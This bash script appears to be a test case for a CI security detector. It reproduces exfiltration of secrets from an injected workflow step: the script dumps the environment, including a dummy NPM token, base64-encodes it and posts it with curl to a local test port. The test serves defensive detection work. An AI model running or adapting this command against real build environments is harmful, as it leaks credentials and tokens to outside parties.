#!/bin/bash
# technique: T1552.001 Unsecured Credentials (CI secrets in the environment); T1132.001 Data Encoding: Standard Encoding; T1041 Exfiltration Over C2 Channel
# reproduces: one-line exfiltration in injected workflow steps: the environment base64-encoded into a request's arguments with command substitution (`curl -d "$(env | base64 -w0)" URL`), so no pipe reaches the uploader
# expect: environment-sent-to-network ^curl$
# exec-borne: no
#
# printenv's output goes through base64 into the shell's memory, then
# onto curl's command line.
set -u

export NPM_TOKEN="npm_buildwardenAttackTest00000000000000"

payload="d=$(printenv | base64 -w0)"
curl -s -o /dev/null --connect-timeout 5 -d "$payload" "http://127.0.0.1:${BW_ATTACK_PORT:?}/c"
